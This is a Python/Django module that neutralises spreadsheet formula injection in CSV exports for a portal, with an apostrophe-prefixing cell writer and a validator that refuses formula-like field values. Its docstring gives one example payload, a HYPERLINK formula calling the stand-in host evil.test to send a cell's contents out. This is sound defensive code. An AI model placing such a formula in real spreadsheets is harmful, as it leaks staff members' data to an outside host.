"""Tables written for spreadsheet programs (CSV), in which no cell can run as a formula.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (or with a
tab or a carriage return, which some of them skip first) as a formula: a supplier's province of
`=HYPERLINK("http://evil.test/?x="&A1,"Click me")` would become a link that sends a staff
member's figures away. So every CSV the portal writes goes through `write_csv` (or
`csv_response`), which writes such a text cell behind an apostrophe, the spreadsheet's own mark
for "this is text", and writes numbers as numbers: a count of -3 stays the number -3.

Fields that hold a name or a place have no use for such a beginning and refuse it
(`refuse_formula_start`), so that the value never reaches a table at all.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal

from django.core.exceptions import ValidationError
from django.http import HttpResponse
from django.utils.translation import gettext_lazy as _

# What a spreadsheet program reads as the start of a formula (after any leading blanks) ...
FORMULA_STARTS = ("=", "+", "-", "@")
# ... and the blanks it may skip to get there, which are neutralised even when they come alone.
FORMULA_BLANKS = ("\t", "\r")
# The spreadsheet's mark for "the rest of this cell is text".
TEXT_MARK = "'"
NUMBERS = (int, float, Decimal)


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet program could read the text as a formula."""
    return text.startswith(FORMULA_BLANKS) or text.lstrip().startswith(FORMULA_STARTS)


def safe_cell(value):
    """The value as a CSV cell: numbers (and None, an empty cell) as they are; anything else as
    text, behind an apostrophe when it could be read as a formula."""
    if value is None or isinstance(value, NUMBERS):
        return value
    text = str(value)
    return TEXT_MARK + text if starts_like_formula(text) else text


def write_csv(stream, headers: Iterable, rows: Iterable[Iterable]) -> None:
    """Write a header row and the rows to `stream` (anything with `write`), every cell safe."""
    writer = csv.writer(stream)
    writer.writerow([safe_cell(value) for value in headers])
    writer.writerows([safe_cell(value) for value in row] for row in rows)


def csv_row_writer(stream, headers: Iterable):
    """Write the header row to `stream` and return a function that writes one row, every cell safe:
    for files written a row at a time (an import's report, whose cells come from the file)."""
    writer = csv.writer(stream)
    writer.writerow([safe_cell(value) for value in headers])
    return lambda row: writer.writerow([safe_cell(value) for value in row])


def csv_response(*, filename: str, headers: Iterable, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download of the table, in UTF-8 with a byte order mark (spreadsheet programs then
    read Chinese right). `filename` must be plain ASCII chosen by the portal, not by a user."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    write_csv(response, headers, rows)
    return response


def refuse_formula_start(value: str) -> None:
    """A validator for fields that hold a name or a place: nothing a spreadsheet would run."""
    if value and starts_like_formula(value):
        raise ValidationError(
            _(
                "This cannot begin with =, +, -, @, a tab or a line break: spreadsheet programs "
                "would run it as a formula."
            ),
            code="formula",
        )
